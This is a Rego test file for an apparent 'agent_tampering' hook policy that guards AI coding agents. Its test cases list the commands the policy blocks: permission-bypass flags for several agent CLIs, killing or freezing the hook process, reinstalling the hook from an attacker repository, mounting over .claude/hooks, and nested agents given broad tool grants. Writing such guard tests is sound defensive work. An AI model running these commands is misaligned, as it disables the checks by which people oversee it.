package claude_rego.policies.agent_tampering_test

import data.claude_rego.lib.testing.cmd
import data.claude_rego.policies.agent_tampering
import rego.v1

_seg(id, argv, extra) := object.union({
	"id": id, "parent": null, "context": "top", "depth": 0, "pipeline": id, "operator": null,
	"argv": argv, "command": argv[0], "args": array.slice(argv, 1, count(argv)), "raw_words": argv,
	"wrappers": [], "assignments": {}, "redirects": [], "opaque": false, "opaque_reasons": [],
}, extra)

_input(segs) := {"facts": {
	"event": "PreToolUse", "tool": {"name": "Bash", "class": "shell"}, "cwd": "/home/dev/project",
	"project_dir": "/home/dev/project", "home": "/home/dev", "paths": [],
	"shell": {"segments": segs, "opaque": false, "opaque_reasons": []},
}}

test_skip_permissions_is_denied if {
	count(agent_tampering.deny) == 1 with input as _input([_seg(0, ["claude", "--dangerously-skip-permissions", "-p", "x"], {})])
}

test_bypass_mode_is_denied if {
	count(agent_tampering.deny) == 1 with input as _input([_seg(0, ["claude", "--permission-mode", "bypassPermissions"], {})])
}

test_plain_claude_is_allowed if {
	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["claude", "-p", "summarise"], {})])
}

test_killing_the_hook_is_denied if {
	count(agent_tampering.deny) == 1 with input as _input([_seg(0, ["pkill", "-f", "claude-rego"], {})])
}

test_env_file_write_is_denied if {
	seg := _seg(0, ["echo", "x"], {"redirects": [{"op": ">>", "target": "$CLAUDE_ENV_FILE", "fd": null, "dup": false}]})
	count(agent_tampering.deny) == 1 with input as _input([seg])
}

test_ordinary_kill_is_allowed if {
	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["kill", "1234"], {})])
}

# ------------------------------------------------------------ h12: by effect, not by name

test_h12_bypass_flags_by_shape_denied if {
	every argv in [["amp", "--dangerously-allow-all", "-x", "go"], ["cursor-agent", "--force", "-p", "x"], ["qwen", "--yolo"], ["copilot", "--allow-all-tools"], ["q", "chat", "--trust-all-tools"], ["droid", "exec", "--skip-permissions-unsafe"], ["codex", "--dangerously-bypass-approvals-and-sandbox"]] {
		count(agent_tampering.deny) > 0 with input as _input([_seg(0, argv, {})])
	}
}

test_h12_agents_without_bypass_flags_pass if {
	every argv in [["amp", "--help"], ["cursor-agent", "-p", "fix tests"], ["codex", "exec", "fix"], ["node", "scripts/build.js", "--force"], ["gemini", "-p", "summarise"]] {
		count(agent_tampering.deny) == 0 with input as _input([_seg(0, argv, {})])
	}
}

test_h12_agent_started_through_its_cli_file_denied if {
	count(agent_tampering.deny) > 0 with input as _input([_seg(0, ["node", "/home/dev/.npm-global/lib/node_modules/@anthropic-ai/claude-code/cli.js", "--dangerously-skip-permissions"], {})])
	count(agent_tampering.deny) > 0 with input as _input([_seg(0, ["bun", "/opt/claude-code/cli.js", "--permission-mode", "bypassPermissions"], {})])
	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["node", "/usr/lib/node_modules/@anthropic-ai/claude-code/cli.js", "--version"], {})])
}

test_h12_installing_the_hook_package_denied if {
	every argv in [["pip", "install", "-e", "/tmp/evil-claude-rego"], ["uv", "pip", "install", "--reinstall", "claude-rego @ git+https://github.com/attacker/claude-rego"], ["pipx", "install", "/tmp/claude_rego"], ["python3", "-m", "pip", "install", "claude-rego==0.0.1"]] {
		count(agent_tampering.deny) > 0 with input as _input([_seg(0, argv, {})])
	}
	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["pip", "install", "-e", "."], {})])
	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["npm", "install", "claude-code-router"], {})])
}

test_h12_mount_over_claude_dirs_denied if {
	count(agent_tampering.deny) > 0 with input as _input([_seg(0, ["mount", "-t", "tmpfs", "none", ".claude"], {})])
	count(agent_tampering.deny) > 0 with input as _input([_seg(0, ["mount", "--bind", "/tmp/e", "/home/dev/.claude/hooks"], {})])
	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["mount", "-t", "tmpfs", "none", "./mnt"], {})])
}

# h12-c8b: a nested agent with another HOME or XDG_CONFIG_HOME
test_nested_claude_with_other_home_is_denied if {
	count(agent_tampering.deny) == 1 with input as _input([_seg(0, ["claude", "-p", "x"], {"assignments": {"HOME": "/tmp/h"}})])
}

test_other_program_with_other_home_passes if {
	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["npm", "test"], {"assignments": {"HOME": "/tmp/h"}})])
}

test_processes_found_by_part_of_the_hooks_name if {
	segs := [_seg(0, ["pgrep", "-f", "rego"], {}), _seg(1, ["xargs", "-r", "kill", "-STOP"], {})]
	kill := _seg(2, ["kill", "-STOP"], {"parent": 1, "context": "xargs", "depth": 1})
	count(agent_tampering.deny) > 0 with input as _input(array.concat(segs, [kill]))
	count(agent_tampering.deny) > 0 with input as _input([_seg(0, ["pkill", "-STOP", "-f", "laude_re"], {})])
	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["pgrep", "-f", "pytest"], {}), _seg(1, ["kill", "1234"], {})])
	count(agent_tampering.deny) == 0 with input as _input([_seg(0, ["pkill", "-f", "re"], {})])
}

test_nested_agents_with_every_shell_command_preapproved_ask if {
	every argv in [
		["claude", "-p", "--allowedTools", "Bash", "x"], ["claude", "-p", "--allowed-tools=Read,Bash(*)", "x"],
		["claude", "--allowedTools", "*", "-p", "x"],
	] {
		count(agent_tampering.ask) > 0 with input as _input([_seg(0, argv, {})])
	}
	every argv in [["claude", "-p", "--allowedTools", "Read,Grep", "x"], ["claude", "-p", "--allowedTools", "Bash(npm test)", "x"], ["claude", "-p", "--allowedTools"]] {
		count(agent_tampering.ask) == 0 with input as _input([_seg(0, argv, {})])
	}
}

test_nested_agents_given_more_power_ask if {
	every argv in [
		["claude", "-p", "x", "--add-dir", "/home/dev"], ["claude", "-p", "x", "--add-dir", "/"],
		["claude", "-p", "x", "--add-dir", "./lib", "/etc"], ["claude", "-p", "x", "--add-dir=/srv"],
		["claude", "-p", "x", "--allowedTools", "Bash(rm:*)"], ["claude", "-p", "x", "--allowedTools", "Read", "Bash(curl *)"],
		["claude", "-p", "x", "--allowed-tools=Bash(sudo:*)"], ["claude", "-p", "x", "--allowedTools", "Bash(bash -c:*)"],
		["claude", "-p", "x", "--allowedTools", "Read", "Bash"],
		["claude", "-p", "x", "--permission-mode", "acceptEdits"], ["claude", "-p", "x", "--permission-mode=acceptEdits"],
	] {
		count(agent_tampering.ask) > 0 with input as cmd(argv)
	}
}

test_nested_agents_with_narrow_grants_pass if {
	every argv in [
		["claude", "-p", "x", "--add-dir", "./packages/api"], ["claude", "-p", "x", "--add-dir", "/home/dev/project/sub"],
		["claude", "-p", "x", "--allowedTools", "Bash(npm test:*)", "Read"], ["claude", "-p", "x", "--allowedTools", "Bash(git log:*),Read"],
		["claude", "-p", "x", "--permission-mode", "plan"], ["claude", "-p", "summarize", "--output-format", "json"],
	] {
		count(agent_tampering.ask) == 0 with input as cmd(argv)
		count(agent_tampering.deny) == 0 with input as cmd(argv)
	}
}

test_joined_and_new_dangerous_options_denied if {
	every argv in [
		["claude", "-p", "x", "--permission-mode=dontAsk"], ["claude", "-p", "x", "--settings=/tmp/s.json"],
		["claude", "-p", "x", "--mcp-config=/tmp/m.json"], ["claude", "-p", "x", "--dangerously-skip-permissions=true"],
		["claude", "-p", "x", "--dangerously-load-development-channels"],
	] {
		count(agent_tampering.deny) > 0 with input as cmd(argv)
	}
}

# s27: the whole contents of a directory outside the project copied into the project root
test_contents_into_project_root_ask if {
	count(agent_tampering.ask) == 1 with input as _input([_seg(0, ["rsync", "-a", "/tmp/evil/", "./"], {})])
	count(agent_tampering.ask) == 1 with input as _input([_seg(0, ["cp", "-r", "../template/.", "."], {})])
	count(agent_tampering.ask) == 1 with input as _input([_seg(0, ["cp", "-rT", "/tmp/x", "/home/dev/project"], {})])
	count(agent_tampering.ask) == 1 with input as _input([_seg(0, ["rsync", "-az", "host:/srv/app/", "."], {})])
}

test_contents_elsewhere_pass if {
	count(agent_tampering.ask) == 0 with input as _input([_seg(0, ["rsync", "-a", "/tmp/build/", "dist/"], {})])
	count(agent_tampering.ask) == 0 with input as _input([_seg(0, ["rsync", "-av", "./", "/tmp/build/"], {})])
	count(agent_tampering.ask) == 0 with input as _input([_seg(0, ["cp", "-r", "src/.", "."], {})])
	count(agent_tampering.ask) == 0 with input as _input([_seg(0, ["rsync", "-a", "/tmp/evil", "./"], {})])
}
